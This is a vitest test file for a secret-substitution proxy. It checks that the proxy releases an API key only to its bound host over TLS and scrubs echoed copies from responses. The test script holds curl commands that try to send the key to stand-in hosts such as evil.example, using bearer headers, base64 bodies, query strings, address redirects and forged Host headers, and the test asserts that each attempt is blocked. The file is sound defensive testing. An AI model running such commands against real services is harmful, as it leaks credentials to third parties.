import { randomBytes } from 'node:crypto';
import { expect, test } from 'vitest';
import { runDecoy } from './support/run-decoy.ts';
import { startUpstream } from './support/upstream.ts';
import { openWorkspace } from './support/workspace.ts';

// I5, I6
const secret = `sk-${randomBytes(30).toString('base64url')}`;

test('a placeholder opens its host and no other, and what comes back is scrubbed', async () => {
  await using workspace = await openWorkspace();
  await using upstream = await startUpstream((request, response) => {
    const sent = String(request.headers.authorization ?? '').replace('Bearer ', '');
    response.setHeader('x-echo', sent);
    response.end([sent, Buffer.from(sent).toString('base64'), Buffer.from(sent).toString('hex'), encodeURIComponent(`${sent}`), JSON.stringify(sent)].join('\n'));
  });
  const ask = (label: string, line: string) => `echo "${label} $(curl -sS -m 10 -o /tmp/body -w '%{http_code}' ${line} 2>/tmp/error) $(cat /tmp/body /tmp/error 2>/dev/null | tr '\\n' ' ')"; rm -f /tmp/body`;
  const bearer = '-H "Authorization: Bearer $API_KEY"';
  const script = [
    'echo "PLACEHOLDER $API_KEY"',
    ask('BOUND', `-D /tmp/headers ${bearer} https://api.example.test/echo`), 'echo "HEADERS $(tr -d \'\\r\' < /tmp/headers | tr \'\\n\' \' \')"',
    ask('OTHER', `${bearer} https://other.example.test/`),
    ask('OTHER-BASE64', '-d "$(printf "xx%s" "$API_KEY" | base64 -w 0)" https://other.example.test/'),
    ask('OTHER-QUERY', '"https://other.example.test/?$API_KEY"'),
    ask('EVIL', `${bearer} https://evil.example/`),
    ask('EVIL-BY-ADDRESS', `${bearer} --connect-to evil.example:443:api.example.test:443 https://evil.example/`),
    ask('EVIL-BY-HOST', `${bearer} -H "Host: evil.example" https://api.example.test/forged`),
    ask('WRONG-PLACE', '-d "$API_KEY" https://api.example.test/body'),
    ask('PLAIN', `${bearer} http://api.example.test/plain`),
    ask('ALLOWED', 'https://other.example.test/fine'),
  ].join('\n');
  const end = await runDecoy([
    '--quiet', '--secret', 'API_KEY@api.example.test', '--allow', 'other.example.test', '--allow', 'http://api.example.test'.slice(7),
    ...upstream.resolve('api.example.test', 'other.example.test', 'evil.example'), '--', 'sh', '-c', script,
  ], { cwd: workspace.path, env: { ...upstream.env, API_KEY: secret } });
  expect(end, end.stderr).toMatchObject({ exitCode: 0 });
  const line = (label: string) => new RegExp(`^${label} (.*)$`, 'm').exec(end.stdout)?.[1] ?? '';
  const placeholder = line('PLACEHOLDER');

  // The control: what the upstream received, and so what it echoed, is the real value.
  expect(upstream.received[0]).toMatchObject({ host: 'api.example.test', url: '/echo' });
  expect(upstream.received[0]!.headers).toContain(`Bearer ${secret}`);
  for (const form of [secret, Buffer.from(secret).toString('base64'), Buffer.from(secret).toString('hex')]) expect(end.stdout).not.toContain(form);
  expect(line('BOUND')).toContain(`200 ${placeholder} `);
  expect(line('BOUND')).toContain(` ${Buffer.from(placeholder).toString('hex')} `);
  // The last character of base64 also holds bits of the neighbour, and stays.
  expect(line('BOUND')).toContain(` ${Buffer.from(placeholder).toString('base64').slice(0, -3)}`);
  expect(line('HEADERS')).toContain(`x-echo: ${placeholder}`);

  expect(line('OTHER')).toMatch(/^403 .*"placeholder-wrong-host".*"API_KEY"/);
  expect(line('OTHER-BASE64')).toMatch(/placeholder-wrong-host|^000|^403/);
  expect(line('OTHER-QUERY')).toMatch(/^403 .*placeholder-wrong-host/);
  expect(line('EVIL')).toMatch(/^000 .*resolve/);
  expect(line('EVIL-BY-ADDRESS')).toMatch(/^(403|421|000) /);
  expect(line('EVIL-BY-HOST')).toMatch(/^(403|421) .*host-mismatch/);
  expect(line('WRONG-PLACE')).toMatch(/placeholder-wrong-place|^000|^403/);
  expect(line('PLAIN')).toMatch(/^403 .*placeholder-without-tls/);
  expect(line('ALLOWED')).toMatch(/^200 /);

  // Of all this the upstream, which answers for every name, has seen the two requests that are right.
  expect(upstream.received.map(({ host, url }) => `${host}${url}`).filter((where) => !where.endsWith('/body'))).toEqual(['api.example.test/echo', 'other.example.test/fine']);
  expect(JSON.stringify(upstream.received)).not.toContain(placeholder);
  expect(end.report).toMatchObject({ secrets: [{ name: 'API_KEY', substitutions: 1 }] });
  expect(end.report!.secrets[0]!.refusals).toBeGreaterThanOrEqual(5);
  expect(end.report!.secrets[0]!.scrubs).toBeGreaterThanOrEqual(4);
}, 60_000);
